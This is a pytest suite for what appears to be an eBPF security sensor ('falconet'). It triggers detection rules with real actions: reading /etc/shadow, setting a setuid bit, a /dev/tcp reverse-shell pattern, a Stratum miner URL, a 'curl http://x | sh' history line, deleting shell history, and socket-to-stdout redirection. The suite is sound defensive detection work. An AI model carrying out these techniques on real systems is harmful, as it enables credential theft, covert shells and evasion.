"""The default rules against the real sensor: real processes doing the real thing, the real BPF program
reporting it, the engine alerting on it; and a real benign workload (git, a venv) raising nothing.

This is where the field semantics (fd names, flags, modes, ancestry) meet what the sensor actually produces.
CI runs as root on the target kernel, so a sensor that cannot start fails these tests (never skips).
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from falconet.rules import DEFAULT_RULES
from falconet.rules.engine import Engine, Resolvers
from falconet.rules.event import Event
from falconet.sensor import Sensor, SensorConfig, SensorError

PY = sys.executable


class Watch:
    """The sensor drained on a thread; every event kept with the default rules it matches."""

    def __init__(self, engine: Engine, sensor: Sensor) -> None:
        self.engine = engine
        self.sensor = sensor
        self.seen: list[tuple[Event, list[str]]] = []
        self._cond = threading.Condition()
        self._stop = False
        self._thread = threading.Thread(target=self._drain, name="rules-live-drain", daemon=True)
        self._thread.start()

    def _drain(self) -> None:
        while not self._stop:
            got = self.sensor.poll(50)
            if got:
                matched = [(e, self.engine.matching_rules(e)) for e in got]
                with self._cond:
                    self.seen.extend(matched)
                    self._cond.notify_all()

    def wait_for(
        self, pred: Callable[[Event, list[str]], bool], timeout: float = 30.0
    ) -> tuple[Event, list[str]]:
        deadline = time.monotonic() + timeout
        with self._cond:
            while True:
                for item in self.seen:
                    if pred(*item):
                        return item
                left = deadline - time.monotonic()
                if left <= 0:
                    alerts = [(e.type, e.proc.name, r) for e, r in self.seen if r][-20:]
                    pytest.fail(f"timed out after {timeout}s; {self.sensor.stats()}; recent alerts: {alerts}")
                self._cond.wait(min(left, 0.2))

    def close(self) -> None:
        self._stop = True
        self._thread.join(10)
        self.sensor.close()


@pytest.fixture(scope="module")
def watch() -> Iterator[Watch]:
    engine = Engine.from_files([DEFAULT_RULES], rule_matching="all",
                               resolvers=Resolvers(hostname=lambda: "test", dns=lambda _d: []))  # fmt: skip
    assert engine.event_types is not None
    sensor = Sensor(SensorConfig(ringbuf_bytes=64 << 20, syscalls=set(engine.event_types)))
    try:
        sensor.start()
    except SensorError as exc:
        if os.environ.get("CI") == "true" or os.geteuid() == 0:
            pytest.fail(f"the sensor could not start: {exc}")
        pytest.skip(f"the sensor needs root: {exc}")
    w = Watch(engine, sensor)
    try:
        yield w
    finally:
        w.close()


def python(code: str) -> int:
    """Runs Python code in a child process; returns its pid (the process the rules should name)."""
    p = subprocess.run([PY, "-c", textwrap.dedent(code)], capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stderr
    return int(p.stdout.split()[0])


def fired(rule: str, pid: int) -> Callable[[Event, list[str]], bool]:
    return lambda e, rules: rule in rules and e.proc.pid == pid


def test_reading_shadow(watch: Watch) -> None:
    pid = python("import os; open('/etc/shadow').read(); print(os.getpid())")
    event, _ = watch.wait_for(fired("Read sensitive authentication file", pid))
    assert event.fd is not None and event.fd.name == "/etc/shadow"


def test_symlink_to_shadow(watch: Watch, tmp_path: Path) -> None:
    link = tmp_path / "innocent"
    pid = python(f"import os; os.symlink('/etc/shadow', {str(link)!r}); print(os.getpid())")
    watch.wait_for(fired("Create symlink over sensitive file", pid))


def test_ptrace_traceme(watch: Watch) -> None:
    pid = python("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.ptrace(0, 0, 0, 0) == 0, ctypes.get_errno()   # PTRACE_TRACEME
        print(os.getpid())
    """)
    watch.wait_for(fired("PTRACE anti-debug attempt", pid))


def test_setuid_bit(watch: Watch, tmp_path: Path) -> None:
    target = tmp_path / "rootshell"
    target.write_bytes(b"")
    pid = python(f"import os; os.chmod({str(target)!r}, 0o4755); print(os.getpid())")
    watch.wait_for(fired("Set setuid or setgid bit", pid))


def test_unshare_user_namespace(watch: Watch) -> None:
    pid = python("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.unshare(0x10000000) == 0, ctypes.get_errno()   # CLONE_NEWUSER
        print(os.getpid())
    """)
    watch.wait_for(fired("Create namespace with unshare", pid))


def test_stratum_url_and_dev_tcp_shell(watch: Watch) -> None:
    miner = subprocess.Popen(["/bin/sh", "-c", "exit 0", "sh", "stratum+tcp://pool.invalid:3333"])
    miner.wait(30)
    watch.wait_for(fired("Crypto miner using the Stratum protocol", miner.pid))
    shell = subprocess.Popen(["bash", "-c", ": /dev/tcp/127.0.0.1/9"])
    shell.wait(30)
    watch.wait_for(fired("Reverse shell", shell.pid))


def test_deleting_shell_history(watch: Watch, tmp_path: Path) -> None:
    history = tmp_path / ".bash_history"
    history.write_text("curl http://x | sh\n")
    rm = subprocess.Popen(["rm", "-f", str(history)])
    rm.wait(30)
    event, _ = watch.wait_for(fired("Delete or rename shell history", rm.pid))
    assert event.args.get("name") == str(history)


def test_execution_from_dev_shm(watch: Watch) -> None:
    exe = Path("/dev/shm") / f"falconet-test-{uuid.uuid4().hex[:8]}"
    shutil.copy("/bin/true", exe)
    try:
        exe.chmod(0o755)
        p = subprocess.Popen([str(exe)])
        p.wait(30)
        event, _ = watch.wait_for(fired("Execution from /dev/shm", p.pid))
        assert event.proc.exepath == str(exe)
    finally:
        exe.unlink()


def test_benign_git_and_venv_workload_is_quiet(watch: Watch, tmp_path: Path) -> None:
    token = uuid.uuid4().hex
    (tmp_path / "main.py").write_text("print('hello')\n")
    script = f"""
        set -e
        cd {tmp_path}
        git init -q .
        git add main.py
        git -c user.name=dev -c user.email=dev@example.com commit -qm first
        git log --oneline >/dev/null
        {PY} -m venv --without-pip venv
        venv/bin/python main.py >/dev/null
        cat /etc/hostname >/dev/null
        : > sentinel-{token}
        cat sentinel-{token}
    """
    env = dict(os.environ, HOME=str(tmp_path), GIT_CONFIG_NOSYSTEM="1")
    shell = subprocess.Popen(["/bin/sh", "-c", textwrap.dedent(script)], env=env)
    assert shell.wait(120) == 0

    def sentinel(e: Event, _rules: list[str]) -> bool:
        return e.fd is not None and (e.fd.name or "").endswith(f"sentinel-{token}") and e.proc.name == "cat"

    watch.wait_for(sentinel, timeout=60)

    def under_shell(e: Event) -> bool:
        p = e.proc
        while p is not None:
            if p.pid == shell.pid:
                return True
            p = p.parent
        return False

    with watch._cond:  # a snapshot of everything seen so far
        ours = [(e, r) for e, r in watch.seen if under_shell(e)]
    assert len(ours) > 10  # the workload was seen (git, python, cat...), so silence below means something
    noisy = [(e.type, e.proc.name, e.fd.name if e.fd else None, r) for e, r in ours if r]
    assert noisy == []


def test_socket_wired_to_stdout(watch: Watch) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        pid = python(f"""
            import os, socket, sys
            print(os.getpid(), flush=True)
            s = socket.create_connection(("127.0.0.1", {port}))
            saved = os.dup(1)
            os.dup2(s.fileno(), 1)      # what a reverse shell does with its socket
            os.dup2(saved, 1)
        """)
        conn, _ = server.accept()
        conn.close()
    event, _ = watch.wait_for(fired("Redirect standard streams to network connection", pid))
    assert event.res == 1 and event.fd is not None and event.fd.type == "ipv4"
